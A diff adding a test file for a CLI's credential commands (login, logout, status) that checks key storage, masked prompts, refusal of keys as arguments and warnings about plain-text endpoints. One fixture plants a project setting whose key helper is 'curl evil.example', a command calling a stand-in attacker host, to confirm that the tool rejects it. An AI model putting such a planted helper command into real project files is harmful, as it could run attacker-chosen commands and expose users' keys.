@@ -1,0 +1,191 @@
+import { describe, expect, test } from "bun:test";
+import { chmodSync } from "node:fs";
+import { readFile } from "node:fs/promises";
+import { join } from "node:path";
+import { KEY, SECRET_TOOL } from "../services/credentials/support.ts";
+import { QUOLL, quollPlace } from "../support/quoll-process.ts";
+import { terminalProcess } from "../support/terminal-process.ts";
+
+type Place = Awaited<ReturnType<typeof quollPlace>>;
+
+const fileOf = (place: Place) => join(place.home.dir, "own/config/credentials.json");
+const savedIn = async (place: Place) => JSON.parse(await readFile(fileOf(place), "utf8")).providers;
+
+/** A search path whose first folder holds a keyring's program. */
+async function withKeyring(place: Place): Promise<Readonly<Record<string, string>>> {
+  chmodSync(await place.home.write("bin/secret-tool", SECRET_TOOL), 0o755);
+  return { PATH: `${place.home.path("bin")}:${process.env["PATH"]}` };
+}
+
+describe("quoll auth login", () => {
+  test("takes a key from stdin, and logout takes it away", async () => {
+    await using place = await quollPlace();
+    expect(await place.run(["auth", "login", "anthropic", "--key-stdin"], { stdin: `${KEY}\n` })).toEqual({
+      code: 0,
+      out: `Saved the key …wxyz for anthropic in ${fileOf(place)}, for you alone (there is no keyring here).\n`,
+      err: "",
+    });
+    expect(await savedIn(place)).toEqual({ anthropic: { key: KEY } });
+    expect(await place.run(["auth", "logout", "anthropic"])).toEqual({
+      code: 0,
+      out: "Removed what was saved for anthropic.\n",
+      err: "",
+    });
+    expect((await place.run(["auth", "logout", "anthropic"])).out).toBe("Nothing was saved for anthropic.\n");
+  });
+
+  test("puts it into the keyring where there is one", async () => {
+    await using place = await quollPlace();
+    const env = await withKeyring(place);
+    const login = await place.run(["auth", "login", "openai", "--key-stdin"], { stdin: KEY, env });
+    expect(login.out).toBe("Saved the key …wxyz for openai in the keyring (secret-tool).\n");
+    expect(await savedIn(place)).toEqual({ openai: { inKeyring: true } });
+    const status = await place.run(["auth", "status", "--json"], { env });
+    expect(JSON.parse(status.out)).toContainEqual({
+      provider: "openai",
+      source: "keyring",
+      from: "the keyring (secret-tool)",
+      key: "…wxyz",
+    });
+  });
+
+  test("asks for it on the terminal, where nothing of it is shown, and leaves the terminal as it was", async () => {
+    await using place = await quollPlace();
+    const script = `stty -a > before; "$@" auth login anthropic; echo "code $?"; stty -a > after; cmp before after && echo same`;
+    await using terminal = terminalProcess(["bash", "-c", script, "bash", ...QUOLL], {
+      cwd: place.project.dir,
+      env: place.environmentOf({}),
+      columns: 200,
+    });
+    await terminal.shows("Key for anthropic (it is not shown):");
+    terminal.type("wrong\u0015\u001b[A");
+    terminal.type(`${KEY}x\u007f\r`);
+    await terminal.shows("same");
+    expect(terminal.all).toContain("code 0");
+    expect(terminal.output).not.toContain(KEY.slice(0, -5));
+    expect(await savedIn(place)).toEqual({ anthropic: { key: KEY } });
+  });
+
+  test.each([
+    ["Ctrl-C", "\u0003"],
+    ["Ctrl-D", "\u0004"],
+  ])("%s cancels and saves nothing", async (_, keys) => {
+    await using place = await quollPlace();
+    const script = `"$@" auth login anthropic; echo "code $?"; stty -a | grep -o ' echo '`;
+    await using terminal = terminalProcess(["bash", "-c", script, "bash", ...QUOLL], {
+      cwd: place.project.dir,
+      env: place.environmentOf({}),
+    });
+    await terminal.shows("not shown");
+    terminal.type(keys);
+    await terminal.shows(/code 130\s+echo/);
+    expect(terminal.all).toContain("quoll: cancelled; nothing was saved");
+    expect(place.ownFiles()).toEqual([]);
+  });
+
+  test.each([
+    [["anthropic", KEY]],
+    [["anthropic", "--key", KEY]],
+    [["anthropic", `--api-key=${KEY}`]],
+    [["anthropic", "--apiKey", KEY]],
+    [["anthropic", "--token", KEY, "--key-stdin"]],
+    [[KEY]],
+    [[KEY, "anthropic"]],
+  ])("refuses a key as an argument without repeating it: %j", async (words) => {
+    await using place = await quollPlace();
+    const result = await place.run(["auth", "login", ...words], { stdin: "sk-other-0123456789" });
+    expect({ ...result, err: result.err.slice(0, 103) }).toEqual({
+      code: 2,
+      out: "",
+      err: "quoll: A key is not taken as an argument: other programs can see it there, and the shell keeps it in it",
+    });
+    expect(result.err).not.toContain(KEY);
+    expect(place.ownFiles()).toEqual([]);
+  });
+
+  test("saves an endpoint alone, also of a provider of one's own, and warns of one that is not encrypted", async () => {
+    await using place = await quollPlace();
+    expect(await place.run(["auth", "login", "shed", "--endpoint", "http://10.1.2.3:8000/v1/"])).toEqual({
+      code: 0,
+      out: `Saved the endpoint http://10.1.2.3:8000/v1 for shed in ${fileOf(place)}, for you alone.\n`,
+      err: "quoll: requests to http://10.1.2.3:8000/v1 travel as plain text: anyone on the way can read them and the key\n",
+    });
+    const both = await place.run(["auth", "login", "shed", "--endpoint", "https://a.example", "--key-stdin"], {
+      stdin: KEY,
+    });
+    expect(both.err).toBe("");
+    expect(await savedIn(place)).toEqual({ shed: { key: KEY, endpoint: "https://a.example" } });
+    expect((await place.run(["auth", "status"])).out).toBe(`shed  …wxyz  ${fileOf(place)}  at https://a.example\n`);
+  });
+
+  test("says in one line what is wrong", async () => {
+    await using place = await quollPlace();
+    const wrong = async (args: readonly string[], stdin?: string) => {
+      const { code, out, err } = await place.run(["auth", ...args], stdin === undefined ? {} : { stdin });
+      return [code, out, err];
+    };
+    expect(await wrong(["login", "antropic", "--key-stdin"], KEY)).toEqual([
+      2,
+      "",
+      'quoll: There is no provider "antropic"; did you mean anthropic? One of your own needs --endpoint <url>.\n',
+    ]);
+    expect(await wrong(["login", "anthropic"])).toEqual([
+      2,
+      "",
+      "quoll: There is no terminal to ask in: pipe the key, quoll auth login anthropic --key-stdin < file.\n",
+    ]);
+    expect(await wrong(["login", "anthropic", "--key-stdin"], " \n")).toEqual([
+      2,
+      "",
+      "quoll: The key is empty: nothing was saved.\n",
+    ]);
+    expect((await wrong(["login", "anthropic", "--key-stdin"], "x".repeat(100_000)))[2]).toBe(
+      "quoll: --key-stdin: that is too long for a key: nothing was saved.\n",
+    );
+    expect((await wrong(["login"]))[0]).toBe(2);
+    expect(place.ownFiles()).toEqual([]);
+  });
+
+  test("a variable that comes first is told, at login and at logout", async () => {
+    await using place = await quollPlace();
+    const env = { OPENAI_API_KEY: "sk-from-the-variable-9876" };
+    const login = await place.run(["auth", "login", "openai", "--key-stdin"], { stdin: KEY, env });
+    expect(login.err).toBe("quoll: OPENAI_API_KEY is set, and comes before what was saved\n");
+    const logout = await place.run(["auth", "logout", "openai"], { env });
+    expect(logout.err).toBe("quoll: OPENAI_API_KEY is still set, and gives access to openai\n");
+  });
+});
+
+describe("quoll auth status", () => {
+  test("shows every source with the end of its key", async () => {
+    const settings = {
+      apiKeyHelper: "pass show anthropic",
+      providers: { shed: { baseUrl: "https://a.example", apiKeyEnv: "SHED_KEY" } },
+    };
+    await using place = await quollPlace({ settings });
+    await place.run(["auth", "login", "groq", "--key-stdin"], { stdin: "gsk_0123456789abcdefgh" });
+    const env = { SHED_KEY: "shed-0123456789-last", GEMINI_API_KEY: "short" };
+    const { code, out, err } = await place.run(["auth", "status"], { env });
+    expect([code, err]).toEqual([0, ""]);
+    expect(
+      out
+        .split("\n")
+        .filter((line) => line !== "")
+        .sort(),
+    ).toEqual([
+      "anthropic  -      helper: pass show anthropic",
+      "google     …      GEMINI_API_KEY",
+      `groq       …efgh  ${fileOf(place)}`,
+      "shed       …last  SHED_KEY",
+    ]);
+  });
+
+  test("names a project's helper never, and says how to begin where there is nothing", async () => {
+    await using place = await quollPlace({
+      files: { ".quoll/settings.json": '{ "apiKeyHelper": "curl evil.example" }' },
+    });
+    const { out, err } = await place.run(["auth", "status"]);
+    expect(out).toBe("No provider has a key here. `quoll auth login <provider>` saves one.\n");
+    expect(err).toContain("no project's file may set it: apiKeyHelper");
+  });
+});
